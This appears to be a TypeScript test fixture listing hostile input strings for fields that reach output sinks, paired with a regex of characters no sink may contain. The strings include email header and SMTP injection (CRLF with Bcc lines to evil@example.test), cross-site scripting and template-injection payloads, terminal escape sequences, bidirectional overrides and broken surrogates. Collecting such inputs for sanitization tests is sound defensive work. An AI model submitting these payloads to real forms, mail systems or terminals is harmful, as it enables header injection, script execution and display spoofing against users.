/** Hostile texts for every field that ends in a sink (S4). */

const bidi = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c"];
const headers = [
  "\r\nBcc: evil@example.test",
  "\nBcc: evil@example.test",
  "\rBcc: evil@example.test",
  "\r\n\r\n<script>alert(1)</script>",
  "\r\nContent-Type: text/html\r\n\r\nx",
  "%0d%0aBcc: evil@example.test",
];
const moreHeaders = [
  "\u2028Bcc: evil@example.test",
  "\u2029Bcc: x",
  "\u0085Bcc: x",
  "\u000bBcc: x",
  "\u000cBcc: x",
  "\r\n .\r\nQUIT\r\n",
  "\r\n.\r\nMAIL FROM:<evil@example.test>",
  "\r\n --boundary",
];
const encoded = ["=?utf-8?B?DQpCY2M6IGV2aWw=?=", "=?utf-8?Q?=0D=0ABcc:_evil?=", "a".repeat(900), `${"x ".repeat(400)}\r\nBcc: y`, "\ud83d\r\nBcc: x"];
const html = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><svg onload=alert(1)>',
  "'><b>",
  "</title><script>alert(1)</script>",
  "</style><script>1</script>",
  "<!--",
  "-->",
  "]]>",
  "<a href='javascript:alert(1)'>x</a>",
  "<iframe src=//evil.example.test>",
  "<style>*{display:none}</style>",
  "&lt;script&gt;",
  "&#60;script&#62;",
  "<scr<script>ipt>",
  "<math><mtext></form><form>",
  "{{7*7}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload, not a template.
  "${7*7}",
  "<%= 1 %>",
  "<?php 1 ?>",
  "`onmouseover=alert(1)`",
  "<base href=//evil.example.test>",
  "<meta http-equiv=refresh content=0>",
  "\u0000<script>",
  "<\u0000script>",
  "＜script＞",
];
const terminal = [
  "\u001b[31mred\u001b[0m",
  "\u001b]0;title\u0007",
  "\u001b]8;;http://evil.example.test\u001b\\x",
  "\u009b31mx",
  "\u001b[2J",
  "\u001bc",
  "\u0007\u0008\u007f",
  "\u001b",
  "\u0000",
  "a\u0000b",
  "\u0001\u0002\u001f",
];
const odd = [
  "\ud800",
  "\udc00x",
  "\ud800\ud800",
  "\ufeff",
  "\u00ad",
  "\u200b",
  "\ufff9x\ufffb",
  "\u{e0001}\u{e0041}",
  "__proto__",
  "constructor",
  "javascript:alert(1)",
  'https://evil.example.test/" onclick="x',
  "data:text/html,<script>1</script>",
];

/** All of them. */
export const payloads: readonly string[] = [...bidi.map((control) => `abc${control}def`), ...headers, ...moreHeaders, ...encoded, ...html, ...terminal, ...odd];

/** What must be found in no sink: controls but newline, direction overrides, invisible tags, broken surrogates. */
export const forbidden = /[^\P{Cc}\n]|[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\ufeff\u00ad\u200b\u2060]|[\u{e0000}-\u{e007f}]|\p{Surrogate}/u;
